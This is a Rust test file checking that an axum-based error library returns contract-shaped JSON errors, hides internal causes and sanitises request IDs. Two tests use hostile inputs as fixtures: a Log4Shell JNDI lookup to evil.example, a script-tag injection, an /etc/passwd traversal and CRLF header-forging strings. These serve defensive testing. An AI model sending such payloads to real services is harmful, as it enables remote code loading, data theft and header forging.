//! The `axum` feature against a real `Router`: every error answer is the contract's JSON
//! with its headers, including axum's own rejections and the router's 404.
#![cfg(feature = "axum")]

use axum::Router;
use axum::body::Body;
use axum::extract::DefaultBodyLimit;
use axum::routing::{get, post};
use error_spec::axum::{Json, Path, Query, ServerConfig, contract_middleware};
use error_spec::{ApiError, RateLimitState, tier};
use http::{HeaderMap, Request, StatusCode};
use serde::Deserialize;
use tower::ServiceExt;

#[derive(Deserialize)]
#[serde(deny_unknown_fields)]
struct CreateRun {
    inputs: Vec<Input>,
}

#[derive(Deserialize)]
#[serde(deny_unknown_fields)]
struct Input {
    #[expect(dead_code, reason = "only its shape is checked")]
    url: String,
}

#[derive(Deserialize)]
#[serde(deny_unknown_fields)]
struct Prompt {
    #[expect(dead_code, reason = "only its shape is checked")]
    prompt: String,
}

#[derive(Deserialize)]
struct Search {
    #[expect(dead_code, reason = "only its shape is checked")]
    limit: u32,
}

/// A limiter stand-in: every request is on the pro tier with 42 requests left.
async fn limiter(
    mut request: axum::extract::Request,
    next: axum::middleware::Next,
) -> axum::response::Response {
    let pro = tier("pro").expect("the pro tier exists");
    request
        .extensions_mut()
        .insert(RateLimitState::new(pro, 42, 17));
    next.run(request).await
}

fn app() -> Router {
    Router::new()
        .route(
            "/runs",
            post(
                |Json(run): Json<CreateRun>| async move { format!("{} inputs", run.inputs.len()) },
            ),
        )
        .route("/prompts", post(|Json(_): Json<Prompt>| async { "ok" }))
        .route(
            "/runs/{id}",
            get(|Path(id): Path<u64>| async move { format!("run {id}") }),
        )
        .route("/search", get(|Query(_): Query<Search>| async { "found" }))
        .route(
            "/boom",
            get(|| async {
                Err::<(), _>(ApiError::internal(std::io::Error::other(
                    "open /etc/secrets/db.key failed\n   at src/db.rs:42",
                )))
            }),
        )
        .route(
            "/limited",
            get(|| async { Err::<(), _>(ApiError::rate_limited(23)) }),
        )
        .layer(DefaultBodyLimit::max(1024))
        .layer(axum::middleware::from_fn_with_state(
            ServerConfig::new("https://docs.test/errors"),
            contract_middleware,
        ))
        .layer(axum::middleware::from_fn(limiter))
}

/// Sends `request` through the app: status, headers, and the body as JSON (or its text).
async fn send(request: Request<Body>) -> (StatusCode, HeaderMap, serde_json::Value) {
    let response = app()
        .oneshot(request)
        .await
        .expect("the router is infallible");
    let status = response.status();
    let headers = response.headers().clone();
    let bytes = axum::body::to_bytes(response.into_body(), usize::MAX)
        .await
        .expect("the body is in memory");
    let json = serde_json::from_slice(&bytes).unwrap_or_else(|_| {
        serde_json::Value::String(String::from_utf8_lossy(&bytes).into_owned())
    });
    (status, headers, json)
}

fn post_json(body: &str) -> Request<Body> {
    Request::post("/runs")
        .header("content-type", "application/json")
        .header("x-request-id", "client-7")
        .body(Body::from(body.to_owned()))
        .expect("a valid request")
}

fn get_req(uri: &str) -> Request<Body> {
    Request::get(uri)
        .body(Body::empty())
        .expect("a valid request")
}

/// The contract's common checks on an error answer.
fn assert_contract(status: StatusCode, headers: &HeaderMap, json: &serde_json::Value, code: &str) {
    assert_eq!(json["error"], code, "{json}");
    assert_eq!(json["status"], status.as_u16(), "{json}");
    assert_eq!(headers["content-type"], "application/problem+json");
    assert_eq!(json["doc_url"], format!("https://docs.test/errors#{code}"));
    assert_eq!(
        json["request_id"],
        headers["x-request-id"].to_str().expect("ASCII")
    );
    assert_eq!(headers["x-ratelimit-limit"], "60");
    assert_eq!(headers["ratelimit"], "\"pro\";r=42;t=17");
}

#[tokio::test]
async fn success_responses_carry_the_common_headers() {
    let (status, headers, _) = send(post_json(r#"{"inputs":[{"url":"https://x"}]}"#)).await;
    assert_eq!(status, StatusCode::OK);
    assert_eq!(
        headers["x-request-id"], "client-7",
        "a harmless id is echoed"
    );
    assert_eq!(headers["x-ratelimit-remaining"], "42");
    assert_eq!(headers["ratelimit-policy"], "\"pro\";q=60;w=60");
}

#[tokio::test]
async fn malformed_json_is_invalid_request() {
    let (status, headers, json) = send(post_json(r#"{"inputs": [}"#)).await;
    assert_eq!(status, StatusCode::BAD_REQUEST);
    assert_contract(status, &headers, &json, "invalid_request");
    assert_eq!(json["request_id"], "client-7");
    assert!(
        json["message"]
            .as_str()
            .is_some_and(|m| m.contains("not valid JSON")),
        "{json}"
    );
}

#[tokio::test]
async fn a_wrong_field_is_validation_error_with_its_pointer() {
    let (status, headers, json) =
        send(post_json(r#"{"inputs":[{"url":"https://x"},{"url":5}]}"#)).await;
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY);
    assert_contract(status, &headers, &json, "validation_error");
    assert_eq!(json["errors"][0]["pointer"], "/inputs/1/url", "{json}");
    assert_eq!(
        json["message"],
        error_spec::ErrorCode::ValidationError.message(),
        "the message is the table's, the pointer is in `errors` only: {json}"
    );
    assert_eq!(json["errors"][0]["message"], "has the wrong type");
}

#[tokio::test]
async fn serde_text_naming_server_types_never_reaches_the_body() {
    // serde would say "invalid type: ..., expected struct CreateRun" and name `Input`.
    for body in [r#"[1, 2]"#, r#"{"inputs": "none"}"#, r#"{"inputs": [7]}"#] {
        let (_, _, json) = send(post_json(body)).await;
        assert_eq!(json["error"], "validation_error", "{body}: {json}");
        let text = json.to_string();
        for internal in ["CreateRun", "Input", "struct", "expected"] {
            assert!(!text.contains(internal), "{body} leaks {internal}: {text}");
        }
    }
}

#[tokio::test]
async fn a_missing_field_points_at_the_field() {
    let (_, _, json) = send(post_json(r#"{"inputs":[{}]}"#)).await;
    assert_eq!(json["error"], "validation_error");
    assert_eq!(json["errors"][0]["pointer"], "/inputs/0/url", "{json}");
    assert_eq!(json["errors"][0]["message"], "is required");
}

#[tokio::test]
async fn a_body_over_the_limit_is_payload_too_large() {
    let big = format!(r#"{{"inputs":[{{"url":"{}"}}]}}"#, "x".repeat(4096));
    let (status, headers, json) = send(post_json(&big)).await;
    assert_eq!(status, StatusCode::PAYLOAD_TOO_LARGE);
    assert_contract(status, &headers, &json, "payload_too_large");
}

#[tokio::test]
async fn a_missing_content_type_is_invalid_request() {
    let request = Request::post("/runs")
        .body(Body::from("{}"))
        .expect("a valid request");
    let (status, headers, json) = send(request).await;
    assert_contract(status, &headers, &json, "invalid_request");
}

#[tokio::test]
async fn bad_path_and_query_parameters_are_invalid_request() {
    let (status, headers, json) = send(get_req("/runs/not-a-number")).await;
    assert_eq!(status, StatusCode::BAD_REQUEST);
    assert_contract(status, &headers, &json, "invalid_request");

    let (status, headers, json) = send(get_req("/search?limit=many")).await;
    assert_eq!(status, StatusCode::BAD_REQUEST);
    assert_contract(status, &headers, &json, "invalid_request");
}

#[tokio::test]
async fn the_routers_own_errors_are_the_contracts_body_too() {
    let (status, headers, json) = send(get_req("/no/such/route")).await;
    assert_eq!(status, StatusCode::NOT_FOUND);
    assert_contract(status, &headers, &json, "not_found");

    let wrong_method = Request::delete("/search")
        .body(Body::empty())
        .expect("a valid request");
    let (status, headers, json) = send(wrong_method).await;
    // 405 is not in the API's status table: the answer stays within the contract, as the
    // code for a request to fix.
    assert_eq!(status, StatusCode::BAD_REQUEST);
    assert_contract(status, &headers, &json, "invalid_request");
}

#[tokio::test]
async fn the_internal_cause_never_reaches_the_client() {
    let (status, headers, json) = send(get_req("/boom")).await;
    assert_eq!(status, StatusCode::INTERNAL_SERVER_ERROR);
    assert_contract(status, &headers, &json, "internal_error");
    let text = json.to_string();
    assert!(
        !text.contains("/etc/secrets") && !text.contains("src/db.rs"),
        "{text}"
    );
}

#[tokio::test]
async fn rate_limited_answers_carry_retry_after() {
    let (status, headers, json) = send(get_req("/limited")).await;
    assert_eq!(status, StatusCode::TOO_MANY_REQUESTS);
    assert_contract(status, &headers, &json, "rate_limit_exceeded");
    assert_eq!(headers["retry-after"], "23");
    assert_eq!(json["retry_after"], 23);
}

#[tokio::test]
async fn hostile_request_ids_are_replaced() {
    for hostile in [
        "x".repeat(300).into_bytes(),
        b"caf\xc3\xa9".to_vec(),
        b"a b".to_vec(),
        b"<script>alert(1)</script>".to_vec(),
        b"${jndi:ldap://evil.example/a}".to_vec(),
        b"../../etc/passwd".to_vec(),
        b"%0d%0aX-Forged:1".to_vec(),
        b"a;b=c".to_vec(),
        b"\"quoted\"".to_vec(),
        b"".to_vec(),
    ] {
        let request = Request::get("/limited")
            .header(
                "x-request-id",
                http::HeaderValue::from_bytes(&hostile).expect("valid value"),
            )
            .body(Body::empty())
            .expect("a valid request");
        let (_, headers, json) = send(request).await;
        let id = headers["x-request-id"].to_str().expect("ASCII");
        assert!(id.starts_with("req_"), "{id}");
        assert_eq!(json["request_id"], id);
    }
}

#[tokio::test]
async fn without_the_middleware_an_error_is_still_complete() {
    let response = axum::response::IntoResponse::into_response(ApiError::rate_limited(5));
    assert_eq!(response.status(), StatusCode::TOO_MANY_REQUESTS);
    let id = response.headers()["x-request-id"]
        .to_str()
        .expect("ASCII")
        .to_owned();
    assert!(id.starts_with("req_"));
    let bytes = axum::body::to_bytes(response.into_body(), usize::MAX)
        .await
        .expect("in memory");
    let json: serde_json::Value = serde_json::from_slice(&bytes).expect("JSON");
    assert_eq!(json["request_id"], id.as_str());
}

fn post_to(uri: &str, body: impl Into<Body>) -> Request<Body> {
    Request::post(uri)
        .header("content-type", "application/json")
        .body(body.into())
        .expect("a valid request")
}

#[tokio::test]
async fn json_syntax_is_checked_before_types() {
    // Each starts with a member of the wrong type but is not JSON at all.
    for body in [
        r#"{"prompt": [}"#,
        r#"{"prompt": 5"#,
        r#"{"prompt": 5,}"#,
        r#"{"prompt": {"a": 1"#,
        r#"[1, 2"#,
        "",
        "{\"prompt\": \"caf\u{0}\"",
    ] {
        let (status, headers, json) = send(post_to("/prompts", body.to_owned())).await;
        assert_eq!(status, StatusCode::BAD_REQUEST, "{body}: {json}");
        assert_contract(status, &headers, &json, "invalid_request");
        assert!(json.get("errors").is_none(), "{body}: {json}");
    }
    // Invalid UTF-8 inside a string is malformed JSON too, though only the typed pass sees it.
    let (status, _, json) = send(post_to("/prompts", &b"{\"prompt\": \"caf\xe9\"}"[..])).await;
    assert_eq!(status, StatusCode::BAD_REQUEST, "{json}");
    assert_eq!(json["error"], "invalid_request");
    // Well-formed JSON of the wrong type is a validation error.
    let (status, _, json) = send(post_to("/prompts", r#"{"prompt": 5}"#)).await;
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY, "{json}");
    assert_eq!(json["errors"][0]["pointer"], "/prompt");
}

#[tokio::test]
async fn an_unknown_field_is_named_once() {
    for (body, pointer) in [
        (r#"{"prompt": "x", "extra": 1}"#, "/extra"),
        (r#"{"extra": 1, "prompt": "x"}"#, "/extra"),
    ] {
        let (status, _, json) = send(post_to("/prompts", body)).await;
        assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY, "{json}");
        assert_eq!(json["errors"][0]["pointer"], pointer, "{json}");
        assert_eq!(json["errors"][0]["message"], "is not a known field");
        assert_eq!(json["errors"].as_array().map(Vec::len), Some(1));
    }
    let (_, _, json) = send(post_json(
        r#"{"inputs":[{"url":"https://x","bogus":true}]}"#,
    ))
    .await;
    assert_eq!(json["errors"][0]["pointer"], "/inputs/0/bogus", "{json}");
}

#[tokio::test]
async fn client_field_names_are_only_in_the_pointer_and_escaped() {
    for (name, escaped) in [
        ("a/b~c", "/a~1b~0c"),
        ("<script>alert(1)</script>", "/<script>alert(1)<~1script>"),
        ("line\nbreak\r\nX-Forged: 1", "/line\nbreak\r\nX-Forged: 1"),
        ("~1", "/~01"),
        ("", "/"),
    ] {
        let body = serde_json::json!({ "prompt": "x", name: 1 }).to_string();
        let (status, _, json) = send(post_to("/prompts", body)).await;
        assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY, "{json}");
        assert_eq!(json["errors"][0]["pointer"], escaped, "{json}");
        let pointer: error_spec::JsonPointer = json["errors"][0]["pointer"]
            .as_str()
            .expect("a string")
            .parse()
            .expect("RFC 6901");
        assert_eq!(pointer.tokens().collect::<Vec<_>>(), [name]);
        // The name appears nowhere but in the pointer: the messages are the table's and fixed
        // phrases.
        assert_eq!(
            json["message"],
            error_spec::ErrorCode::ValidationError.message()
        );
        assert_eq!(json["errors"][0]["message"], "is not a known field");
    }
}

#[tokio::test]
async fn rejections_are_mapped_by_type() {
    // The body limit, hit while reading the body: payload_too_large.
    let big = format!(r#"{{"prompt":"{}"}}"#, "x".repeat(4096));
    let (status, _, json) = send(post_to("/prompts", big)).await;
    assert_eq!(status, StatusCode::PAYLOAD_TOO_LARGE, "{json}");
    assert_eq!(json["error"], "payload_too_large");
    // A JSON body sent as another media type, or without one: invalid_request, not 415.
    for content_type in [Some("text/plain"), Some("application/jsonx"), None] {
        let mut request = Request::post("/prompts");
        if let Some(content_type) = content_type {
            request = request.header("content-type", content_type);
        }
        let request = request
            .body(Body::from(r#"{"prompt":"x"}"#))
            .expect("a valid request");
        let (status, _, json) = send(request).await;
        assert_eq!(status, StatusCode::BAD_REQUEST, "{content_type:?}: {json}");
        assert_eq!(json["error"], "invalid_request");
    }
    // `+json` media types and parameters are JSON.
    let request = Request::post("/prompts")
        .header(
            "content-type",
            "application/merge-patch+json; charset=utf-8",
        )
        .body(Body::from(r#"{"prompt":"x"}"#))
        .expect("a valid request");
    assert_eq!(send(request).await.0, StatusCode::OK);
    // A missing query parameter, and a path parameter that does not parse.
    for uri in [
        "/search",
        "/search?limit=-1",
        "/runs/99999999999999999999999",
    ] {
        let (status, _, json) = send(get_req(uri)).await;
        assert_eq!(status, StatusCode::BAD_REQUEST, "{uri}: {json}");
        assert_eq!(json["error"], "invalid_request");
    }
}

#[test]
fn axum_rejections_convert_by_their_type() {
    use axum::extract::rejection::{JsonRejection, MissingJsonContentType};
    let err = ApiError::from(JsonRejection::from(MissingJsonContentType::default()));
    assert_eq!(err.code(), error_spec::ErrorCode::InvalidRequest);
    assert!(
        std::error::Error::source(&err).is_some(),
        "the rejection is kept for logs"
    );
}

#[tokio::test]
async fn repeated_or_joined_request_ids_are_replaced() {
    let mut request = get_req("/limited");
    request
        .headers_mut()
        .append("x-request-id", http::HeaderValue::from_static("first"));
    request
        .headers_mut()
        .append("x-request-id", http::HeaderValue::from_static("second"));
    let (_, headers, json) = send(request).await;
    let id = headers["x-request-id"].to_str().expect("ASCII");
    assert!(id.starts_with("req_"), "{id}");
    assert_eq!(json["request_id"], id);
    assert_eq!(headers.get_all("x-request-id").iter().count(), 1);

    for joined in ["first, second", "first,second"] {
        let mut request = get_req("/limited");
        request
            .headers_mut()
            .insert("x-request-id", http::HeaderValue::from_static(joined));
        let (_, headers, json) = send(request).await;
        let id = headers["x-request-id"].to_str().expect("ASCII");
        assert!(id.starts_with("req_"), "{joined}: {id}");
        assert_eq!(json["request_id"], id);
    }
}
